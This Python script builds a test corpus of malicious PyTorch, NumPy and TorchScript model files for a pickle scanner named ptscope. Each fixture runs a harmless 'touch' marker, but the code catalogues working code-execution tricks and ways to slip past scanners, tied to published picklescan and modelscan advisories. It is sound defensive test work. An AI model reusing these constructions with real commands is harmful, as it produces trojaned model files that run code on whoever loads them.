#!/usr/bin/python3
"""Generate the malicious fixture corpus for `ptscope scan` (issue 13, point 6).

Every payload is harmless: it creates an empty file named
`ptscope_payload_ran_<stem>` (<stem>: the fixture's name up to its first dot)
in the *current working directory* of whoever loads the fixture.  This script
never loads a fixture; scripts/check_malicious_payloads.py proves, in a fresh
temporary folder per fixture, that each payload really runs under the loader
named in expected.tsv (torch.load / numpy.load / pickle.load) and never under
ptscope.

Run with Debian's interpreter (torch 1.13, numpy):

    /usr/bin/python3 scripts/make_malicious_fixtures.py [--out DIR]

Writes fixtures/malicious/* and fixtures/malicious/expected.tsv, byte-identical
on every run (torch.save's zip writer is deterministic; the legacy writer is
make_fixtures.save_legacy; TorchScript needs PYTHONHASHSEED=0 and a relative
script name, see fixture_util.reexec_deterministically; the .npz is written
with a fixed timestamp).

How payloads are put into real files: most fixtures start from a real
torch.save output and swap data.pkl (the payload's opcodes, then POP, then the
original pickle body), so torch.load runs the payload *and* returns the real
state_dict.  The pickle module handed to torch.save rewrites the bytes its
Pickler produced, so the zip around them is torch's own writer's.
"""

import argparse
import collections
import hashlib
import io
import os
import pickle
import struct
import sys
import tarfile
import types
import zipfile
from pathlib import Path

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from fixture_util import reexec_deterministically, save_safetensors  # noqa: E402

import numpy as np  # noqa: E402
import torch  # noqa: E402
import torch.nn as nn  # noqa: E402

SCRIPT_REL = "scripts/make_malicious_fixtures.py"
REPO_ROOT = Path(__file__).resolve().parent.parent
PAYLOAD_PREFIX = "ptscope_payload_ran_"


def payload_name(file_name):
    return PAYLOAD_PREFIX + file_name.split(".")[0]


# --------------------------------------------------------------------------
# Opcode builders.  Each returns bytes that push exactly one value; none uses
# the memo unless it says so, so they can precede any pickle body.
# --------------------------------------------------------------------------

def u(text):
    """BINUNICODE (protocol 1+)."""
    b = text.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def su(text):
    """SHORT_BINUNICODE (protocol 4)."""
    b = text.encode()
    assert len(b) < 256
    return b"\x8c" + bytes([len(b)]) + b


def integer(n):
    return b"J" + struct.pack("<i", n)


def glob(module, name):
    """GLOBAL (any protocol)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def tup(*items):
    return b"(" + b"".join(items) + b"t"


def call(fn, *args):
    """REDUCE: fn(*args)."""
    return fn + tup(*args) + b"R"


def empty_dict():
    return b"}"


def dict_of(**items):
    return b"}(" + b"".join(u(k) + v for k, v in items.items()) + b"u"


POP, STOP = b"0", b"."


def touch(stem_file):
    """Shell command creating the fixture's payload file."""
    return f"touch {payload_name(stem_file)}"


def py_create(stem_file):
    """Python statement creating the fixture's payload file."""
    return f"open({payload_name(stem_file)!r}, 'w').close()"


def os_system(cmd):
    return call(glob("os", "system"), u(cmd))


# --------------------------------------------------------------------------
# Containers
# --------------------------------------------------------------------------

def base_state_dict():
    torch.manual_seed(0)
    return nn.Linear(4, 2).state_dict()


def prefixed(payload_ops, proto=2):
    """data.pkl transform: payload, POP, then the original body."""
    def transform(data):
        assert data[:2] == b"\x80\x02", data[:2]
        return b"\x80" + bytes([proto]) + payload_ops + POP + data[2:]
    return transform


def rewriting_pickle_module(transform):
    """A pickle module for torch.save whose Pickler rewrites its own output."""
    class Pickler(pickle.Pickler):
        def __init__(self, buf, *args, **kwargs):
            super().__init__(buf, *args, **kwargs)
            self._out = buf

        def dump(self, obj):
            super().dump(obj)
            data = transform(self._out.getvalue())
            self._out.seek(0)
            self._out.truncate()
            self._out.write(data)
    module = types.ModuleType("rewriting_pickle")
    module.Pickler = Pickler
    return module


def save_zip(path, obj=None, transform=None):
    """torch.save(obj) in the zip format, data.pkl passed through `transform`."""
    obj = base_state_dict() if obj is None else obj
    if transform is None:
        torch.save(obj, str(path))
    else:
        torch.save(obj, str(path), pickle_module=rewriting_pickle_module(transform))


def split_pickles(data, count):
    """Offsets of the first `count` consecutive pickles in `data`: [(start, end)]."""
    import pickletools
    spans, pos = [], 0
    for _ in range(count):
        f = io.BytesIO(data)
        f.seek(pos)
        end = None
        for op, _, at in pickletools.genops(f):
            if op.name == "STOP":
                end = at + 1
                break
        spans.append((pos, end))
        pos = end
    return spans


def save_legacy_file(path, obj=None, magic=None, object_transform=None):
    """A legacy (non-zip) torch.save file; `magic` replaces the magic-number
    pickle, `object_transform` rewrites the object pickle."""
    from make_fixtures import save_legacy
    save_legacy(base_state_dict() if obj is None else obj, path)
    data = path.read_bytes()
    (m0, m1), _, _, (o0, o1), _ = split_pickles(data, 5)
    obj_pickle = data[o0:o1]
    if object_transform is not None:
        obj_pickle = object_transform(obj_pickle)
    path.write_bytes((magic if magic is not None else data[m0:m1]) + data[m1:o0] + obj_pickle + data[o1:])


def zip_record_info(path, suffix):
    with zipfile.ZipFile(path) as z:
        (info,) = [i for i in z.infolist() if i.filename.endswith(suffix)]
        return info


def central_header_offset(data, name):
    """Offset of the central directory header naming `name`."""
    at = data.find(b"PK\x01\x02")
    while at != -1:
        n = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46:at + 46 + n] == name.encode():
            return at
        at = data.find(b"PK\x01\x02", at + 4)
    raise ValueError(name)


def rewrite_torchscript(src, dst, replace):
    """Copy a TorchScript archive record by record through torch's own zip
    writer (PyTorchFileWriter), replacing records named in `replace`
    (suffix -> bytes).  The writer adds the version record itself."""
    with zipfile.ZipFile(src) as z:
        records = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    writer = torch._C.PyTorchFileWriter(str(dst))
    for name, data in records:
        rel = name.split("/", 1)[1]
        if rel in ("version", ".data/version"):
            continue
        for suffix, new in replace.items():
            if rel == suffix:
                data = new
        writer.write_record(rel, data, len(data))
    writer.write_end_of_file()
    del writer


class TinyScript(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(2, 2)

    def forward(self, x):
        return self.fc(x) * 2.0


# --------------------------------------------------------------------------
# Payload objects pickled by the real Pickler (torch.save / np.save)
# --------------------------------------------------------------------------

class Reduce:
    """An object that pickles as `fn(*args)`."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


# --------------------------------------------------------------------------
# The fixtures.  Each writer takes (out, name) and returns a dict with the
# expected.tsv fields it knows: verdict, trick, runs_under, advisory, note.
# --------------------------------------------------------------------------

FIXTURES = []


def fixture(name, verdict, runs_under, trick, advisory="-"):
    def register(fn):
        FIXTURES.append(dict(file=name, verdict=verdict, runs_under=runs_under,
                             trick=trick, advisory=advisory, write=fn))
        return fn
    return register


# ---- plain call paths ------------------------------------------------------

@fixture("zip_reduce_global.pt", "dangerous", "torch.load",
         "GLOBAL os.system + REDUCE, before a real state_dict in data.pkl")
def _(path):
    save_zip(path, transform=prefixed(os_system(touch(path.name))))


@fixture("zip_stack_global_memo.pt", "dangerous", "torch.load",
         "protocol 4: STACK_GLOBAL whose module and name strings come from the memo (MEMOIZE/BINGET)",
         "modelscan#85 (memo-stored STACK_GLOBAL operands)")
def _(path):
    ops = (su("os") + b"\x94" + b"0" + su("system") + b"\x94" + b"0"   # memo 0, 1
           + su("harmless") + b"0"
           + b"h\x00" + b"h\x01" + b"\x93"                              # STACK_GLOBAL
           + su(touch(path.name)) + b"\x85" + b"R")
    save_zip(path, transform=prefixed(ops, proto=4))


@fixture("zip_inst.pt", "dangerous", "torch.load", "INST os system (protocol 0 opcode in data.pkl)")
def _(path):
    ops = b"(" + u(touch(path.name)) + b"ios\nsystem\n"
    save_zip(path, transform=prefixed(ops))


@fixture("zip_obj.pt", "dangerous", "torch.load", "OBJ: MARK, GLOBAL os.system, argument, OBJ")
def _(path):
    ops = b"(" + glob("os", "system") + u(touch(path.name)) + b"o"
    save_zip(path, transform=prefixed(ops))


def memmap_args(name):
    return u(payload_name(name)), glob("numpy", "uint8"), u("w+"), integer(0), tup(integer(1))


@fixture("zip_newobj_memmap.pt", "dangerous", "torch.load",
         "NEWOBJ numpy.memmap: cls.__new__ creates a file (mode w+), no REDUCE at all")
def _(path):
    ops = glob("numpy", "memmap") + tup(*memmap_args(path.name)) + b"\x81"
    save_zip(path, transform=prefixed(ops))


@fixture("zip_newobj_ex_memmap.pt", "dangerous", "torch.load",
         "protocol 4: NEWOBJ_EX numpy.memmap with keyword arguments (mode='w+', shape=(1,))")
def _(path):
    ops = (su("numpy") + su("memmap") + b"\x93"
           + tup(u(payload_name(path.name)))
           + dict_of(mode=u("w+"), shape=tup(integer(1)))
           + b"\x92")
    save_zip(path, transform=prefixed(ops, proto=4))


@fixture("zip_build_setstate.pt", "dangerous", "torch.load",
         "BUILD trick: OrderedDict() gets __setstate__=os.system in its instance dict, "
         "then a second BUILD with a str state calls it")
def _(path):
    ops = (call(glob("collections", "OrderedDict"))
           + dict_of(__setstate__=glob("os", "system")) + b"b"
           + u(touch(path.name)) + b"b")
    save_zip(path, transform=prefixed(ops))


# ---- where the payload sits --------------------------------------------------

@fixture("legacy_object_reduce.pt", "dangerous", "torch.load",
         "legacy (non-zip) format: payload in the object pickle, before the real state_dict")
def _(path):
    save_legacy_file(path, object_transform=prefixed(os_system(touch(path.name))))


@fixture("legacy_magic_eval.pt", "dangerous", "torch.load",
         "legacy format: the magic-number pickle is eval(\"<payload> or MAGIC_NUMBER\"); "
         "eval sees torch.serialization's globals, so torch.load goes on and loads the file",
         "picklescan GHSA-97f8-7cmv-76j2")
def _(path):
    src = f"__import__('os').system({touch(path.name)!r}) or MAGIC_NUMBER"
    save_legacy_file(path, magic=b"\x80\x02" + call(glob("builtins", "eval"), u(src)) + STOP)


@fixture("legacy_tar_storages.pt", "dangerous", "torch.load",
         "oldest legacy format (a tar with storages/tensors/pickle): payload in the 'storages' pickle")
def _(path):
    def member(name, data):
        info = tarfile.TarInfo(name)
        info.size, info.mtime, info.mode = len(data), 0, 0o644
        return info, io.BytesIO(data)
    storages = b"\x80\x02" + os_system(touch(path.name)) + POP + b"K\x00" + STOP + pickle.dumps([], 2)
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
        tar.addfile(*member("sys_info", pickle.dumps({"protocol_version": 1001}, 2)))
        tar.addfile(*member("storages", storages))
        tar.addfile(*member("tensors", pickle.dumps(0, 2)))
        tar.addfile(*member("pickle", pickle.dumps({"note": "legacy tar"}, 2)))


@fixture("bare_reduce_p0.pkl", "dangerous", "torch.load",
         "bare protocol-0 pickle stream (.pkl): torch.load unpickles the start of a non-zip file "
         "looking for the legacy magic number")
def _(path):
    path.write_bytes(b"cos\nsystem\n(V" + touch(path.name).encode() + b"\ntR.")


@fixture("bare_reduce_p2.bin", "dangerous", "torch.load",
         "bare protocol-2 pickle named like pytorch_model.bin", "picklescan CVE-2025-1889 (extension)")
def _(path):
    path.write_bytes(b"\x80\x02" + os_system(touch(path.name)) + STOP)


@fixture("torchscript_constants.pt", "dangerous", "none",
         "TorchScript archive whose constants.pkl calls os.system")
def _(path):
    write_torchscript(path, {"constants.pkl": b"\x80\x02" + os_system(touch(path.name)) + b"\x85" + STOP})


@fixture("torchscript_data.pt", "dangerous", "none",
         "TorchScript archive whose data.pkl calls os.system before the module")
def _(path):
    clean = REPO_ROOT / "fixtures" / "malicious" / "torchscript_clean.pt"
    with zipfile.ZipFile(clean) as z:
        data = z.read("torchscript_clean/data.pkl")
    write_torchscript(path, {"data.pkl": prefixed(os_system(touch(path.name)))(data)})


@fixture("statedict_nested_value.pt", "dangerous", "torch.load",
         "a real OrderedDict of tensors with one extra value that pickles as posix.system(cmd)")
def _(path):
    sd = base_state_dict()
    sd["_metadata_note"] = Reduce(os.system, touch(path.name))
    save_zip(path, obj=sd)


@fixture("tensor_backward_hooks.pt", "dangerous", "torch.load",
         "payload inside the backward_hooks argument of torch._utils._rebuild_tensor_v2 "
         "(OrderedDict([(0, os.system(cmd))]))")
def _(path):
    empty_hooks = glob("collections", "OrderedDict")

    def transform(data):
        at = data.index(empty_hooks)
        at += len(empty_hooks)
        assert data[at] == ord("q"), data[at:at + 8]       # BINPUT
        at += 2
        assert data[at] == ord(")") and data[at + 1] == ord("R"), data[at:at + 4]
        hooks = b"(]" + b"(K\x00" + os_system(touch(path.name)) + b"ta" + b"t"
        return data[:at] + hooks + data[at + 1:]
    torch.manual_seed(0)
    save_zip(path, obj={"weight": torch.randn(2, 2)}, transform=transform)


# ---- import by name ------------------------------------------------------------

@fixture("importlib_getattr.pt", "dangerous", "torch.load",
         "importlib.import_module('os') then builtins.getattr(module, 'system')",
         "modelscan#331")
def _(path):
    fn = call(glob("builtins", "getattr"), call(glob("importlib", "import_module"), u("os")), u("system"))
    save_zip(path, transform=prefixed(call(fn, u(touch(path.name)))))


@fixture("pkgutil_resolve_name.pt", "dangerous", "torch.load",
         "pkgutil.resolve_name('os:system') then call the result", "picklescan GHSA-vvpj-8cmc-gx39")
def _(path):
    fn = call(glob("pkgutil", "resolve_name"), u("os:system"))
    save_zip(path, transform=prefixed(call(fn, u(touch(path.name)))))


@fixture("operator_attrgetter.pt", "dangerous", "torch.load",
         "operator.attrgetter('os.system') applied to the module torch.serialization (GLOBAL torch serialization)")
def _(path):
    fn = call(call(glob("operator", "attrgetter"), u("os.system")), glob("torch", "serialization"))
    save_zip(path, transform=prefixed(call(fn, u(touch(path.name)))))


@fixture("operator_methodcaller.pt", "dangerous", "torch.load",
         "operator.methodcaller('system', cmd) applied to torch.serialization.os (GLOBAL torch.serialization os)",
         "picklescan GHSA-84r2-jw7c-4r5q (methodcaller)")
def _(path):
    mc = call(glob("operator", "methodcaller"), u("system"), u(touch(path.name)))
    save_zip(path, transform=prefixed(call(mc, glob("torch.serialization", "os"))))


# ---- callables missing from blocklists ------------------------------------------

@fixture("runpy_run_code.pt", "dangerous", "torch.load", "runpy._run_code(source, {})",
         "picklescan malicious14 (runpy)")
def _(path):
    save_zip(path, transform=prefixed(call(glob("runpy", "_run_code"), u(py_create(path.name)), empty_dict())))


@fixture("bdb_run.pt", "dangerous", "torch.load", "bdb.Bdb.run(bdb.Bdb(), source)", "picklescan malicious15 (bdb)")
def _(path):
    ops = call(glob("bdb", "Bdb"))  # the instance
    # Protocol 2 has no dotted GLOBAL: reach Bdb.run with getattr on the class.
    run = call(glob("builtins", "getattr"), glob("bdb", "Bdb"), u("run"))
    save_zip(path, transform=prefixed(call(run, ops, u(py_create(path.name)))))


@fixture("cprofile_run.pt", "dangerous", "torch.load", "cProfile.run(source)", "picklescan GHSA-49gj-c84q-6qm9")
def _(path):
    save_zip(path, transform=prefixed(call(glob("cProfile", "run"), u(py_create(path.name)))))


@fixture("timeit_setup.pt", "dangerous", "torch.load",
         "timeit.timeit('pass', setup=source, timer=time.perf_counter, number=1)",
         "picklescan malicious21 (timeit)")
def _(path):
    ops = call(glob("timeit", "timeit"), u("pass"), u(py_create(path.name)),
               glob("time", "perf_counter"), integer(1))
    save_zip(path, transform=prefixed(ops))


@fixture("collect_env_run.pt", "dangerous", "torch.load",
         "torch.utils.collect_env.run(shell command): a torch.* name", "modelscan#338; picklescan GHSA-f745-w6jp-hpxx")
def _(path):
    save_zip(path, transform=prefixed(call(glob("torch.utils.collect_env", "run"), u(touch(path.name)))))


@fixture("functools_partial.pt", "dangerous", "torch.load",
         "functools.partial(os.system, cmd) called with no arguments")
def _(path):
    p = call(glob("functools", "partial"), glob("os", "system"), u(touch(path.name)))
    save_zip(path, transform=prefixed(p + b")R"))


@fixture("code_interactive_interpreter.pt", "dangerous", "torch.load",
         "code.InteractiveInterpreter.runsource(InteractiveInterpreter(), source)",
         "picklescan GHSA-cj3c-v495-4xqh (InteractiveInterpreter)")
def _(path):
    run = call(glob("builtins", "getattr"), glob("code", "InteractiveInterpreter"), u("runsource"))
    inst = call(glob("code", "InteractiveInterpreter"))
    save_zip(path, transform=prefixed(call(run, inst, u(py_create(path.name)))))


@fixture("pip_main.pt", "dangerous", "torch.load",
         "pip.main(['list', '--log', FILE]): pip writes its log file", "picklescan CVE-2025-1716")
def _(path):
    args = b"(" + b"".join(u(a) for a in ["list", "--no-index", "--disable-pip-version-check",
                                          "-q", "--log", payload_name(path.name)]) + b"l"
    save_zip(path, transform=prefixed(call(glob("pip", "main"), args)))


# ---- protocol-4 dotted names -----------------------------------------------------

@fixture("dotted_stack_global_torch.pt", "dangerous", "torch.load",
         "protocol 4: STACK_GLOBAL 'torch' 'serialization.os.system' (getattr chain to os.system)")
def _(path):
    ops = su("torch") + su("serialization.os.system") + b"\x93" + su(touch(path.name)) + b"\x85R"
    save_zip(path, transform=prefixed(ops, proto=4))


@fixture("dotted_global_pathlib.pt", "dangerous", "torch.load",
         "protocol 4 header, GLOBAL 'pathlib' 'os.system': find_class resolves dots from protocol 4 on",
         "fickling GHSA-5j3x-jp52-966f")
def _(path):
    save_zip(path, transform=prefixed(call(glob("pathlib", "os.system"), u(touch(path.name))), proto=4))


# ---- memo tricks -------------------------------------------------------------------

@fixture("memo_memoize_binput.pt", "dangerous", "torch.load",
         "MEMOIZE after BINPUT 10/11: Python memoizes at len(memo) (2..5), a scanner counting MEMOIZE "
         "ops (0..3) sees BINGET 2, 3 as builtins.print where Python resolves os.system")
def _(path):
    ops = (su("x") + b"q\x0a0" + su("y") + b"q\x0b0"                 # memo 10, 11
           + su("os") + b"\x940" + su("system") + b"\x940"           # Python: 2, 3; naive: 0, 1
           + su("builtins") + b"\x940" + su("print") + b"\x940"      # Python: 4, 5; naive: 2, 3
           + b"h\x02h\x03\x93" + su(touch(path.name)) + b"\x85R")
    save_zip(path, transform=prefixed(ops, proto=4))


# ---- zip tricks ------------------------------------------------------------------

def zip_with_payload(path):
    save_zip(path, transform=prefixed(os_system(touch(path.name))))
    return bytearray(path.read_bytes()), zip_record_info(path, "/data.pkl")


@fixture("zip_local_name_mismatch.pt", "dangerous", "torch.load",
         "data.pkl's local header names 'datb.pkl': torch finds records through the central directory; "
         "Python's zipfile refuses ('File name in directory ... and header ... differ')",
         "picklescan CVE-2025-1944 (GHSA-7q5r-7gvp-wc82)")
def _(path):
    data, info = zip_with_payload(path)
    at = info.header_offset + 30
    name = data[at:at + len(info.filename)]
    assert name == info.filename.encode()
    data[at:at + len(name)] = name.replace(b"data.pkl", b"datb.pkl")
    path.write_bytes(data)


@fixture("zip_bad_crc.pt", "dangerous", "torch.load",
         "data.pkl's CRC-32 wrong in both headers: torch 1.13 does not check it; zipfile raises Bad CRC-32",
         "picklescan GHSA (malicious1_crc.zip, CVE-2025-10156)")
def _(path):
    data, info = zip_with_payload(path)
    bad = struct.pack("<I", info.CRC ^ 0xFFFFFFFF)
    data[info.header_offset + 14:info.header_offset + 18] = bad
    c = central_header_offset(data, info.filename)
    data[c + 16:c + 20] = bad
    path.write_bytes(data)


def flag_fixture(bit):
    @fixture(f"zip_flag_{bit:#06x}.pt", "dangerous", "torch.load",
             f"general-purpose flag bit {bit:#x} set in data.pkl's local header only: torch 1.13 (miniz) "
             "reads flags from the central directory and loads the file; with the bit in the central "
             "directory torch 1.13 refuses the record too (checked when this corpus was made)",
             "picklescan CVE-2025-1945 (GHSA-w8jq-xcqf-f792)")
    def _(path):
        data, info = zip_with_payload(path)
        at = info.header_offset + 6
        flags = struct.unpack_from("<H", data, at)[0] | bit
        data[at:at + 2] = struct.pack("<H", flags)
        path.write_bytes(data)


for _bit in (0x1, 0x20, 0x40):
    flag_fixture(_bit)


@fixture("renamed_zip.safetensors", "dangerous", "torch.load",
         "a torch zip checkpoint named .safetensors", "picklescan CVE-2025-1889 (extension)")
def _(path):
    save_zip(path, transform=prefixed(os_system(touch(path.name))))


@fixture("renamed_zip_txt.txt", "dangerous", "torch.load",
         "a torch zip checkpoint named .txt", "picklescan CVE-2025-1889 (extension)")
def _(path):
    save_zip(path, transform=prefixed(os_system(touch(path.name))))


# ---- nested pickles -------------------------------------------------------------------

def inner_pickle(name):
    return b"cos\nsystem\n(V" + touch(name).encode() + b"\ntR."


@fixture("nested_pickle_loads.pt", "dangerous", "torch.load",
         "pickle.loads(bytes) of a second pickle; the bytes come from _codecs.encode, "
         "which torch's weights_only allowlist accepts", "modelscan#267")
def _(path):
    sd = base_state_dict()
    sd["_extra"] = Reduce(pickle.loads, inner_pickle(path.name))
    save_zip(path, obj=sd)


@fixture("nested__pickle_loads.pt", "dangerous", "torch.load",
         "_pickle.loads(bytes) of a second pickle (the C module's name)", "modelscan#267; picklescan PR#25")
def _(path):
    import _pickle
    sd = base_state_dict()
    sd["_extra"] = Reduce(_pickle.loads, inner_pickle(path.name))
    save_zip(path, obj=sd)


# ---- numpy ---------------------------------------------------------------------------------

def npy_bytes(name):
    buf = io.BytesIO()
    np.save(buf, np.array([Reduce(os.system, touch(name)), 1], dtype=object), allow_pickle=True)
    return buf.getvalue()


@fixture("object_array.npy", "dangerous", "numpy.load",
         "NumPy .npy object array: the array is a pickle (numpy.load(allow_pickle=True))")
def _(path):
    path.write_bytes(npy_bytes(path.name))


@fixture("object_array_npz.npz", "dangerous", "numpy.load",
         "NumPy .npz whose member arr_0.npy is an object array pickle")
def _(path):
    with zipfile.ZipFile(path, "w") as z:
        z.writestr(zipfile.ZipInfo("arr_0.npy", date_time=(1980, 1, 1, 0, 0, 0)), npy_bytes(path.name))


@fixture("numpy_size_builtins.pt", "dangerous", "torch.load",
         "only numpy globals: BUILD sets numpy.size.shape = numpy.__builtins__, "
         "numpy.size(numpy.size, 'eval') returns builtins eval", "modelscan#330")
def _(path):
    ops = (su("numpy") + su("size") + b"\x93\x940"                     # memo 0: numpy.size
           + su("numpy") + su("__builtins__") + b"\x93\x940"           # memo 1: the builtins dict
           + b"h\x00" + b"}" + b"}" + su("shape") + b"h\x01" + b"s" + b"\x86" + b"b"   # BUILD
           + b"0"
           + b"h\x00" + b"h\x00" + su("eval") + b"\x86R"               # numpy.size(numpy.size, 'eval')
           + su(f"__import__('os').system({touch(path.name)!r})") + b"\x85R")
    save_zip(path, transform=prefixed(ops, proto=4))


# ---- builtins eval / exec / compile / open / getattr -----------------------------------------

@fixture("builtins_eval.pt", "dangerous", "torch.load", "builtins.eval(expression)")
def _(path):
    src = f"__import__('os').system({touch(path.name)!r})"
    save_zip(path, transform=prefixed(call(glob("builtins", "eval"), u(src))))


@fixture("builtins_exec.pt", "dangerous", "torch.load", "builtins.exec(statements)")
def _(path):
    save_zip(path, transform=prefixed(call(glob("builtins", "exec"), u(py_create(path.name)))))


@fixture("builtins_compile_exec.pt", "dangerous", "torch.load", "builtins.exec(builtins.compile(source, '', 'exec'))")
def _(path):
    code = call(glob("builtins", "compile"), u(py_create(path.name)), u("<x>"), u("exec"))
    save_zip(path, transform=prefixed(call(glob("builtins", "exec"), code)))


@fixture("builtins_open.pt", "dangerous", "torch.load", "builtins.open(FILE, 'w'): file creation, no code")
def _(path):
    save_zip(path, transform=prefixed(call(glob("builtins", "open"), u(payload_name(path.name)), u("w"))))


@fixture("getattr_chain.pt", "dangerous", "torch.load",
         "builtins.getattr(builtins.getattr(torch.serialization, 'os'), 'system'): reflection from a torch module")
def _(path):
    g = glob("builtins", "getattr")
    fn = call(g, call(g, glob("torch", "serialization"), u("os")), u("system"))
    save_zip(path, transform=prefixed(call(fn, u(touch(path.name)))))


# ---- controls (no payload) ----------------------------------------------------------------------

@fixture("control_state_dict.pt", "safe", "none", "control: plain state_dict, torch.save defaults")
def _(path):
    save_zip(path)


@fixture("control_namespace.pt", "needs-code", "none",
         "control: state_dict plus argparse.Namespace (refused by weights_only, not dangerous)")
def _(path):
    save_zip(path, obj={"model": base_state_dict(), "args": argparse.Namespace(lr=0.1, epochs=3)})


@fixture("control_whole_module.pt", "needs-code", "none",
         "control: a pickled whole nn.Sequential (torch.nn module classes)")
def _(path):
    torch.manual_seed(0)
    save_zip(path, obj=nn.Sequential(nn.Linear(2, 2), nn.ReLU()))


@fixture("control_numpy_scalar.pt", "needs-code", "none",
         "control: state_dict plus a numpy float64 scalar (numpy.core.multiarray.scalar + numpy.dtype: "
         "not on torch 2.x's default weights_only allowlist)")
def _(path):
    save_zip(path, obj={"model": base_state_dict(), "best_acc": np.float64(0.5)})


@fixture("control.safetensors", "safe", "none", "control: clean safetensors file")
def _(path):
    save_safetensors(path, dict(base_state_dict()))


@fixture("torchscript_clean.pt", "needs-code", "none",
         "control: clean TorchScript archive (torch.jit.load runs its code; weights_only refuses it)")
def _(path):
    write_torchscript(path, {})


def write_torchscript(path, replace):
    torch.manual_seed(0)
    scripted = torch.jit.script(TinyScript())
    raw = path.with_name(path.stem + "_raw.pt")
    torch.jit.save(scripted, str(raw))
    try:
        # Rename the archive prefix to this file's stem by rewriting through the writer.
        rewrite_torchscript(raw, path, replace)
    finally:
        raw.unlink()


# Why a fixture does not run where runs_under is none.
NOT_RUN = {
    "torchscript_constants.pt": "torch 1.13's torch.load hands TorchScript archives to torch.jit.load, whose "
                                "C++ unpickler resolves only TorchScript types: RuntimeError: Unknown type "
                                "name 'os.system'",
    "torchscript_data.pt": "as torchscript_constants.pt (RuntimeError: Unknown type name 'os.system'); "
                           "still dangerous: another loader (or a future torch) may unpickle it in Python",
}


def stack_globals(data, naive):
    """The (module, name) pairs STACK_GLOBAL resolves in `data`, with MEMOIZE
    indexed as Python does (len(memo)) or as a naive scanner would (a count of
    MEMOIZE opcodes).  Only strings, the memo and STACK_GLOBAL are modelled."""
    import pickletools
    memo, stack, count, found = {}, [], 0, []
    for op, arg, _ in pickletools.genops(data):
        if op.name in ("SHORT_BINUNICODE", "BINUNICODE", "UNICODE"):
            stack.append(arg)
        elif op.name == "MEMOIZE":
            memo[count if naive else len(memo)] = stack[-1] if stack else None
            count += 1
        elif op.name in ("BINPUT", "LONG_BINPUT", "PUT"):
            memo[arg] = stack[-1] if stack else None
        elif op.name in ("BINGET", "LONG_BINGET", "GET"):
            stack.append(memo.get(arg))
        elif op.name == "STACK_GLOBAL":
            name, module = stack.pop(), stack.pop()
            found.append((module, name))
            stack.append(None)
        elif op.name == "POP" and stack:
            stack.pop()
        elif op.name == "STOP":
            break
    return found


def check_memo_fixture(path):
    with zipfile.ZipFile(path) as z:
        data = z.read(path.stem + "/data.pkl")
    assert stack_globals(data, naive=False) == [("os", "system")], stack_globals(data, False)
    assert stack_globals(data, naive=True) == [("builtins", "print")], stack_globals(data, True)


def zipfile_verdict(path):
    """What Python's zipfile makes of the file (never unpickles)."""
    try:
        with zipfile.ZipFile(path) as z:
            for info in z.infolist():
                z.read(info.filename)
        return "zipfile reads it"
    except zipfile.BadZipFile as e:
        return f"zipfile: BadZipFile: {e}"
    except Exception as e:  # NotImplementedError for flag bits, RuntimeError for encryption
        return f"zipfile: {type(e).__name__}: {e}"


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", default=str(REPO_ROOT / "fixtures" / "malicious"))
    args = parser.parse_args()
    out = Path(args.out).resolve()
    reexec_deterministically(SCRIPT_REL, __file__, ["--out", str(out)])
    torch.set_num_threads(1)
    out.mkdir(parents=True, exist_ok=True)

    # torchscript_data.pt starts from torchscript_clean.pt: write controls first.
    order = sorted(FIXTURES, key=lambda f: (f["file"] != "torchscript_clean.pt"))
    rows = []
    for f in order:
        path = out / f["file"]
        f["write"](path)
        note = NOT_RUN.get(f["file"], "-")
        if f["file"].startswith(("zip_flag_", "zip_local_name", "zip_bad_crc")):
            note = zipfile_verdict(path)
        rows.append((f["file"], f["verdict"], f["trick"], f["runs_under"], f["advisory"], note))

    check_memo_fixture(out / "memo_memoize_binput.pt")
    rows.sort()
    with open(out / "expected.tsv", "w") as tsv:
        tsv.write("file\tverdict\ttrick\truns_under\tadvisory\tnote\n")
        for row in rows:
            assert all("\t" not in c and "\n" not in c for c in row), row
            tsv.write("\t".join(row) + "\n")

    for name, verdict, *_ in rows:
        digest = hashlib.sha256((out / name).read_bytes()).hexdigest()[:16]
        print(f"{name:34} {verdict:10} {(out / name).stat().st_size:7}  {digest}")


if __name__ == "__main__":
    main()
